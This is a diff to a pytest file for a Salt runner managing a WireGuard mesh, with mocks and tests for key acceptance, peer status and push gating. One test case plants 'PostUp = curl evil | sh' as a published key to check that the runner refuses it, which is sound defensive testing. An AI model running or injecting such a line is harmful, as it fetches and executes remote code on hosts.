@@ -32,16 +32,20 @@ class Cache:
         self.mine = mine
 
     def fetch(self, bank, minion):
-        assert bank == "mine"
+        if bank != "mine":
+            return {}            # no grains cached: top.sls here does not match on grains
         return {"wgmesh_public_key": self.mine[minion]} if minion in self.mine else {}
 
 
 class LocalClient:
-    """MOCK of salt.client.LocalClient: records each job's targets; answers each minion's
-    state.apply with the next of its canned results (a minion without one is down: no return)."""
+    """MOCK of salt.client.LocalClient (no salt-master or minion runs in a unit test): records each
+    job's targets; answers each minion's state.apply with the next of its canned results (default:
+    success), ``test.ping`` and ``wgmesh.absent`` for every minion not in ``down``, and the hub's
+    ``wgmesh.status`` with ``hub_status``."""
 
-    def __init__(self, answers):
-        self.answers, self.jobs = answers, []
+    def __init__(self, answers=None, down=(), hub_status=None):
+        self.answers, self.down, self.hub_status = answers or {}, set(down), hub_status
+        self.jobs, self.pings, self.removals, self.status_calls = [], [], [], []
 
     def __enter__(self):
         return self
@@ -49,11 +53,43 @@ class LocalClient:
     def __exit__(self, *_):
         return False
 
-    def cmd(self, targets, functions, args, tgt_type, timeout):
+    def cmd(self, targets, functions, args=None, tgt_type="glob", timeout=None, gather_job_timeout=None):
+        if functions == "test.ping":
+            self.pings.append(list(targets))
+            return {minion: True for minion in targets if minion not in self.down}
+        if functions == "wgmesh.status":
+            self.status_calls.append(targets)
+            return {targets: self.hub_status} if self.hub_status is not None else {}
+        if functions == ["saltutil.refresh_pillar", "wgmesh.absent"]:
+            self.removals.append(list(targets))
+            return {minion: {"wgmesh.absent": {"removed": ["wg0"]}} for minion in targets if minion not in self.down}
         # queue=True: a drift schedule run in flight delays the apply instead of failing it
         assert functions == ["saltutil.refresh_pillar", "state.apply"] and args[1] == ["wgmesh", "queue=True"]
+        assert tgt_type == "list"
         self.jobs.append(list(targets))
-        return {minion: {"state.apply": self.answers[minion].pop(0)} for minion in targets if self.answers.get(minion)}
+        answers = {minion: self.answers[minion].pop(0) if self.answers.get(minion) else state(True)
+                   for minion in targets if minion not in self.down}
+        return {minion: {"state.apply": answer} for minion, answer in answers.items()}
+
+
+class EventBus:
+    """MOCK of the master's event bus (salt.utils.event.get_master_event): records (tag, data)."""
+
+    def __init__(self):
+        self.events = []
+
+    def __call__(self, opts, sock_dir, listen=True):
+        assert listen is False
+        return self
+
+    def __enter__(self):
+        return self
+
+    def __exit__(self, *_):
+        return False
+
+    def fire_event(self, data, tag):
+        self.events.append((tag, data))
 
 
 @pytest.fixture
@@ -69,6 +105,7 @@ def mine():
 @pytest.fixture
 def opts(tmp_path):
     return {"id": "master", "cachedir": str(tmp_path / "cache"), "conf_file": "/etc/salt/master",
+            "sock_dir": str(tmp_path / "sock"),
             "ext_pillar": [{"wgmesh_secrets": {"secret_file": str(tmp_path / "pki" / "psk.secret")}}]}
 
 
@@ -133,7 +170,7 @@ def state(result, comment=""):
 
 
 def test_converge_applies_the_hub_first_and_retries_hosts_waiting_for_keys(monkeypatch):
-    client = LocalClient({"z": [state(True)], "a": [state(True, "waiting for the public key of z"), state(True)],
+    client = LocalClient({"a": [state(True, "waiting for the public key of z"), state(True)],
                           "c": [state(False)]})
     import salt.client
     monkeypatch.setattr(salt.client, "get_local_client", lambda conf_file: client)
@@ -169,3 +206,235 @@ def test_the_gate_reads_and_plans_a_revision_without_the_cycle_collector(monkeyp
     result = runner._gate_and_converge(Repo, {"upstream": "u", "branch": "main"}, False)
     assert result["result"] == "refused" and result["problems"] == ["wgmesh: refused here"]
     assert seen == [False, "wgmesh/gate/refused"] and gc.isenabled()
+
+
+@pytest.fixture
+def client(monkeypatch):
+    client = LocalClient()
+    import salt.client
+    monkeypatch.setattr(salt.client, "get_local_client", lambda conf_file: client)
+    return client
+
+
+@pytest.fixture
+def bus(monkeypatch):
+    bus = EventBus()
+    import salt.utils.event
+    monkeypatch.setattr(salt.utils.event, "get_master_event", bus)
+    return bus
+
+
+# --- accepting a changed host key -------------------------------------------------------------
+
+@pytest.fixture
+def pins(opts):
+    """The pin store of the wgmesh_secrets ext_pillar (next to its secret file): c pinned to an
+    older key, and its new one refused as a change."""
+    path = os.path.join(os.path.dirname(opts["ext_pillar"][0]["wgmesh_secrets"]["secret_file"]), "host_keys.json")
+    with runner.wgmesh_core.pins.updating_pins(path) as store:
+        store["pinned"].update(z=key(1), a=key(2), c=key(30))
+        store["refused"]["c"] = "changed"
+    return path
+
+
+def test_accept_key_pins_the_published_key_and_applies_the_host_and_the_hub(pins, client, bus):
+    result = runner.accept_key("c", key=key(3))
+    assert result == {"host": "c", "key": key(3), "previous": key(30), "applied": {"z": True, "c": True}}
+    store = runner.wgmesh_core.pins.read_pins(pins)
+    assert store == {"pinned": {"z": key(1), "a": key(2), "c": key(3)}, "refused": {}}
+    assert stat.S_IMODE(os.stat(pins).st_mode) == 0o600
+    assert bus.events == [("wgmesh/key/accepted", {"host": "c", "key": key(3), "previous": key(30)})]
+    assert client.jobs == [["z"], ["c"]]           # the hub first; gateway a does not peer with c
+
+
+def test_accepting_the_hubs_key_applies_every_active_gateway(pins, client, bus, mine, pillar):
+    mine["z"] = key(40)
+    assert runner.accept_key("z")["previous"] == key(1)
+    assert client.jobs == [["z"], ["a", "c"]]
+    pillar["wgmesh"]["gateways"]["c"]["revoked"] = True
+    mine["z"] = key(41)
+    assert runner.accept_key("z")["previous"] == key(40)
+    assert client.jobs[2:] == [["z"], ["a"]]       # c is revoked: not a peer any more
+
+
+@pytest.mark.parametrize("host, given, published, why", [
+    ("e", None, None, "'e' is not the hub or a gateway of the network"),
+    ("c", None, "missing", "c has published no public key"),
+    ("c", key(50), None, "c publishes '.*', not the key given"),
+    ("c", None, "developer e", "not accepting the key of c: it published the public key of developers.e"),
+    ("c", None, "a's", "not accepting the key of c: it published the public key of a"),
+    ("c", None, "not a key", "not accepting the key of c: its published public key is not a WireGuard key"),
+])
+def test_accept_key_refuses_and_changes_nothing(pins, client, bus, mine, pillar, host, given, published, why):
+    if published == "missing":
+        del mine["c"]
+    elif published == "developer e":
+        mine["c"] = pillar["wgmesh"]["developers"]["e"]["public_key"]
+    elif published == "a's":
+        mine["c"] = key(2)
+    elif published == "not a key":
+        mine["c"] = "PostUp = curl evil | sh"
+    before = open(pins).read()
+    with pytest.raises(runner.SaltInvocationError, match=why):
+        runner.accept_key(host, key=given)
+    assert open(pins).read() == before and client.jobs == [] and bus.events == []
+
+
+# --- status -----------------------------------------------------------------------------------
+
+def test_status_flags_silent_and_expiring_peers_from_the_hubs_live_report(client, pillar):
+    import datetime
+    today = datetime.date.today()
+    developers = pillar["wgmesh"]["developers"]
+    developers["e"]["expires"] = str(today + datetime.timedelta(days=3))
+    developers["f"]["expires"] = str(today - datetime.timedelta(days=1))
+    client.hub_status = {"interface": "wg0", "up": True,
+                         "peers": {"a": {"handshake_age": 20}, "c": {"handshake_age": 301},
+                                   "e": {"handshake_age": None}, key(99): {"handshake_age": 5}}}
+    rows = runner.status(stale_after="300", soon_days="7")           # CLI arguments arrive as text
+    assert client.status_calls == ["z"]
+    assert {row["name"]: row["flags"] for row in rows} == {
+        "a": [], "c": ["silent for 301 s"],
+        "e": [f"expires in 3 day(s) ({today + datetime.timedelta(days=3)})", "no handshake yet"],
+        "f": [f"expired on {today - datetime.timedelta(days=1)}"]}
+    assert [row["kind"] for row in rows] == ["gateway", "gateway", "developer", "developer"]
+    assert runner.status(stale_after=600, soon_days=2)[1]["flags"] == []
+
+
+def test_status_says_when_the_hub_does_not_answer(client):
+    with pytest.raises(runner.SaltInvocationError, match="hub z did not answer wgmesh.status: None"):
+        runner.status()
+
+
+# --- a push: gate, lock, coalescing, and only the affected hosts converged ------------------
+
+@pytest.fixture
+def upstream(tmp_path):
+    from tests.onboard.conftest import make_pillar_repo
+    return make_pillar_repo(tmp_path / "upstream")
+
+
+@pytest.fixture
+def gitops(opts, tmp_path, upstream, configure_loader_modules):
+    """A master with the gate configured: Salt's master defaults (the gate compiles the pillar
+    with them), minions z, a, c and r1 accepted in its key store (real files, read by salt.key),
+    and git_pillar's update a MOCK that succeeds (no git_pillar remote is configured here)."""
+    import salt.config
+    full = salt.config.master_config(None)
+    full.update(opts, pki_dir=str(tmp_path / "pki" / "master"),
+                wgmesh_gitops={"upstream": str(upstream.path), "repo": str(tmp_path / "pillar.git")})
+    opts.clear()
+    opts.update(full)
+    accepted = tmp_path / "pki" / "master" / "minions"
+    accepted.mkdir(parents=True)
+    for minion in ("z", "a", "c", "r1"):
+        (accepted / minion).write_text("-----BEGIN PUBLIC KEY-----\n-----END PUBLIC KEY-----\n")
+    configure_loader_modules[runner]["__salt__"]["git_pillar.update"] = lambda: {}
+    return opts["wgmesh_gitops"]
+
+
+def deployed_spec():
+    return runner.wgmesh_core.load_network(runner.deployed_network()["network"])
+
+
+def test_a_push_is_deployed_and_converges_only_the_hosts_it_changes(gitops, upstream, client, bus):
+    first = runner.on_push()
+    assert first["result"] == "applied" and first["previous"] is None
+    assert first["revision"] == upstream.git("rev-parse", "HEAD") == runner.deployed_revision()
+    assert sorted(first["applied"]) == ["a", "c", "r1", "z"] and client.jobs[0] == ["z"]   # the hub first
+    old = deployed_spec()
+    client.jobs.clear()
+    from tests.onboard.conftest import new_public_key
+    upstream.add_developer("g", "10.70.0.9", new_public_key(), lan_access="none")
+    second_revision = upstream.commit("g, without LAN access")
+    second = runner.on_push()
+    # a developer who reaches no LAN changes the hub's peers only: the gateways are not applied
+    assert second["affected"] == ["z"] and second["applied"] == {"z": True} and client.jobs == [["z"]]
+    assert client.pings[-1] == ["z"]
+    assert second["affected"] == runner.wgmesh_core.diff.plan_change(old, deployed_spec()).affected
+    assert "g" in deployed_spec().developers and runner.deployed_revision() == second_revision
+    assert bus.events[-1] == ("wgmesh/applied", second)
+    assert runner.on_push() == {"result": "unchanged", "revision": second_revision}
+
+
+def test_a_refused_push_deploys_nothing_and_names_the_problem(gitops, upstream, client, bus):
+    runner.on_push()
+    deployed, jobs = runner.deployed_revision(), len(client.jobs)
+    upstream.add_developer("g", "10.70.0.4", "0VooFEp8ZdpZp3P7BPa2W3piw+eu/6cyUGpSUWZp4HA=")
+    bad = upstream.commit("g takes e's address and key")
+    result = runner.on_push()
+    assert result["result"] == "refused" and result["revision"] == bad
+    assert "developers.g.address: 10.70.0.4 is already taken by developers.e" in result["problems"]
+    assert runner.deployed_revision() == deployed and len(client.jobs) == jobs
+    assert bus.events[-1] == ("wgmesh/gate/refused", {"revision": bad, "problems": result["problems"],
+                                                      "deployed": deployed})
+
+
+def test_pushes_are_gated_one_at_a_time_and_waiters_coalesce(gitops, monkeypatch):
+    """Three pushes: the first holds the lock; the two that arrive while it runs wait, then one
+    fetches (its fetch sees both pushes) and the other returns at once. The gate's work is a
+    MOCK here (recording overlap): the lock and coalescing are under test, not the gate."""
+    import threading
+    running, overlap, gated = [], [], []
+    release, started = threading.Event(), threading.Event()
+
+    def gate(repo, options, allow_rewind):
+        running.append(1)
+        overlap.append(len(running))
+        gated.append(threading.current_thread().name)
+        started.set()
+        release.wait(10)
+        running.pop()
+        return {"result": "applied"}
+
+    monkeypatch.setattr(runner, "_gate_and_converge", gate)
+    arrived = []
+    real_options = runner._gitops_opts
+    monkeypatch.setattr(runner, "_gitops_opts", lambda: arrived.append(1) or real_options())
+    results = {}
+
+    def push(name):
+        results[name] = runner.on_push()["result"]
+
+    threads = [threading.Thread(target=push, args=(name,), name=name) for name in ("first", "second", "third")]
+    threads[0].start()
+    assert started.wait(10)
+    threads[1].start()
+    threads[2].start()
+    while len(arrived) < 3:                      # both later pushes have arrived (their time is taken)
+        threading.Event().wait(0.01)
+    release.set()
+    for thread in threads:
+        thread.join(10)
+    assert max(overlap) == 1 and len(gated) == 2 and gated[0] == "first"
+    assert sorted(results.values()) == ["applied", "applied", "coalesced"]
+    assert runner.on_push(allow_rewind=True)["result"] == "applied"    # on purpose: never coalesced
+
+
+def test_a_push_a_later_fetch_already_saw_is_coalesced_unless_rewinding(gitops, monkeypatch):
+    import time
+    gated = []
+    monkeypatch.setattr(runner, "_gate_and_converge", lambda repo, options, allow_rewind: gated.append(allow_rewind)
+                        or {"result": "applied"})
+    runner.on_push()
+    lock = os.path.join(gitops["repo"], "wgmesh-gate.lock")
+    with open(lock, "w") as handle:                    # a fetch that started after the next push arrives
+        handle.write(str(time.time() + 60))
+    assert runner.on_push() == {"result": "coalesced", "revision": None}
+    assert runner.on_push(allow_rewind=True) == {"result": "applied"}
+    assert gated == [False, True]
+
+
+def test_a_host_that_leaves_the_network_is_removed_not_applied(gitops, upstream, client, bus):
+    runner.on_push()
+    client.jobs.clear()
+
+    def masquerade(data):
+        gateway = data["wgmesh"]["gateways"]["a"]
+        gateway["lan_mode"] = "masquerade"
+        del gateway["lan_router"]
+    upstream.edit_yaml("wgmesh/network.sls", masquerade)
+    upstream.commit("a masquerades: r1 needs no route")
+    result = runner.on_push()
+    assert result["removed"] == {"r1": {"removed": ["wg0"]}} and client.removals == [["r1"]]
+    assert "r1" not in result["applied"] and all("r1" not in job for job in client.jobs)
